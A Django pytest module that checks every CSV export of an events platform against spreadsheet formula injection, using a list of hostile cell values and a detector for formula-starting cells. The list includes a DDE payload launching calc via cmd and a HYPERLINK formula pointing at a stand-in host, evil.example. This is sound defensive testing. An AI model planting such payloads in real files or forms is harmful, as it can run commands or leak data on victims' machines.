"""CSV formula injection: no cell of any CSV the project writes may start a formula in a
spreadsheet program, whichever separator it splits on (`,`; `;` in French or German locales; tab)
and whether or not it honours the quotes. Every CSV URL is discovered from the URLconf and asked
with guests, events, organisations, cities and a topic named to start formulas."""

import csv
import io
from datetime import timedelta

import pytest
from django.utils import timezone

from events import exports, services
from events.models import Event, Registration, Topic
from tests import factories
from tests.urlconf import every_pattern

pytestmark = pytest.mark.django_db

HOSTILE = [
    "Jean;=1+2;@SUM(1+1)",
    "Atelier;=cmd|' /C calc'!A0",
    'Ana,=HYPERLINK("http://evil.example/?x")',
    "Bob\t-2+3",
    "Eve\n@SUM(1)",
    "Zoé\r\n+33 1 23 45 67 89",
    "=1+1",
    "+1",
    "-1+1",
    "@SUM(A1)",
    "\t=1",
    ' =1+2',
    '"=1+2',
    'x"; =1+2',
    "x;\t+1",
]
FORMULA = ("=", "+", "-", "@", "\t", "\r")
SEPARATORS = (",", ";", "\t")


def dangerous_cells(body):
    """The cells that would start a formula under any separator, read properly or naively."""
    found = []
    for delimiter in SEPARATORS:
        for quoting in (csv.QUOTE_MINIMAL, csv.QUOTE_NONE):
            for row in csv.reader(io.StringIO(body, newline=""), delimiter=delimiter, quoting=quoting):
                for cell in row:
                    # A program may trim spaces and strip leftover quotes before it looks.
                    for candidate in (cell, cell.lstrip(" \n"), cell.lstrip(' "\n')):
                        if candidate.startswith(FORMULA):
                            found.append((repr(delimiter), quoting, cell))
    # A program that splits lines without honouring quotes starts a row after a line break.
    for line in body.replace("\r\n", "\n").replace("\r", "\n").split("\n"):
        if line.lstrip(' "').startswith(FORMULA):
            found.append(("line", None, line))
    return found


def test_the_check_catches_formulas():
    """The negative control: what the old writer produced is caught."""
    assert dangerous_cells('Event,Name\r\nx,Jean;=1+2;@SUM(1+1)\r\n')
    assert dangerous_cells('"Event","Name"\r\n"x","Jean;=1+2"\r\n')
    assert dangerous_cells('"x","Eve\n@SUM(1)"\r\n')
    assert not dangerous_cells("\"x\",\"Jean;'=1+2\"\r\n")


@pytest.mark.parametrize("value", HOSTILE)
def test_the_helper_neutralises_every_segment(value):
    body = "".join(exports.csv_lines(["Name", value], [[value, 1, None], ["ok", value, value]]))
    assert not dangerous_cells(body.lstrip("\ufeff")), body
    # Harmless text is left as it is.
    assert "".join(exports.csv_lines(["A"], [["Lyon - Centre, 2e étage", 3]])).lstrip("\ufeff") == (
        '"A"\r\n"Lyon - Centre, 2e étage","3"\r\n')


@pytest.fixture
def hostile(db, users):
    coordinator = factories.coordinator("FR")
    organiser = factories.user()
    org = factories.organisation("FR", members=[organiser], name=HOSTILE[1])
    topic = Topic.objects.create(name="=1+1;@SUM(1)", slug="hostile-topic",
                                 locale=Topic.objects.first().locale)
    now = timezone.now()
    events = []
    for n, value in enumerate(HOSTILE):
        event = factories.published_event(org, days=2 + n % 5, title=value, city=value, capacity=5)
        event.topics.add(topic)
        events.append(event)
        registration = services.registration_create(event=event, name=value, email=f"guest{n}@example.org",
                                                    consent=True, language="en")
        services.registration_confirm(registration=registration)
    start, end = (now - timedelta(days=30)).date(), (now + timedelta(days=30)).date()
    return {"coordinator": coordinator, "organiser": organiser, "admin": users["admin"], "event": events[0],
            "query": f"?period=custom&from={start}&to={end}&country=FR"}


def csv_routes():
    return sorted({route for _namespace, _name, route, _pattern in every_pattern() if route.endswith(".csv")})


def csv_urls(hostile):
    uid = hostile["event"].uid
    return {
        "en/organise/events/<uuid:uid>/registrants.csv": [("organiser", f"/en/organise/events/{uid}/registrants.csv")],
        "en/organise/import/template.csv": [("organiser", "/en/organise/import/template.csv")],
        "admin/coordinators/events/<uuid:uid>/registrants.csv": [
            ("coordinator", f"/admin/coordinators/events/{uid}/registrants.csv")],
        "admin/coordinators/registrations.csv": [("coordinator", "/admin/coordinators/registrations.csv?country=FR")],
        "admin/coordinators/dashboard/eu/countries.csv": [("admin", "/admin/coordinators/dashboard/eu/countries.csv")],
        "admin/coordinators/dashboard/<str:country>/<slug:table>.csv": [
            ("coordinator", f"/admin/coordinators/dashboard/FR/{table}.csv")
            for table in ("events", "status", "topics", "formats", "languages", "months", "cities", "registrations",
                          "fullest", "organisations")],
        "admin/outcomes/<slug:table>.csv": [
            (who, f"/admin/outcomes/{table}.csv") for who in ("coordinator", "admin")
            for table in ("countries", "ecosystems", "partnerships")],
    }


def test_no_csv_export_starts_a_formula(client, hostile):
    urls = csv_urls(hostile)
    # Every CSV the URLconf serves is asked here.
    assert csv_routes() == sorted(urls)
    from coordinators.charts import country_tables
    from coordinators.dashboard import Period, country_dashboard

    period = Period(timezone.now().date(), timezone.now().date(), "custom")
    tables = set(country_tables(country_dashboard(hostile["coordinator"], "FR", period))) | {"events"}
    assert {url.rsplit("/", 1)[1][:-4] for _who, url in urls[
        "admin/coordinators/dashboard/<str:country>/<slug:table>.csv"]} == tables
    for who, url in (pair for pairs in urls.values() for pair in pairs):
        client.force_login(hostile[who])
        response = client.get(url + ("&" if "?" in url else "?") + hostile["query"][1:])
        assert response.status_code == 200, url
        assert response["Content-Type"].startswith("text/csv")
        raw = b"".join(response.streaming_content) if response.streaming else response.content
        body = raw.decode().lstrip("\ufeff")
        assert not dangerous_cells(body), (url, dangerous_cells(body)[:5])
        # The hostile values are there, neutralised, not dropped.
        if "registrants" in url or url.startswith("/admin/coordinators/registrations.csv"):
            assert "Jean;'=1+2;'@SUM(1+1)" in body
    assert Registration.objects.filter(event__organisation=hostile["event"].organisation).count() == len(HOSTILE)
    assert Event.objects.filter(organisation=hostile["event"].organisation).count() == len(HOSTILE)
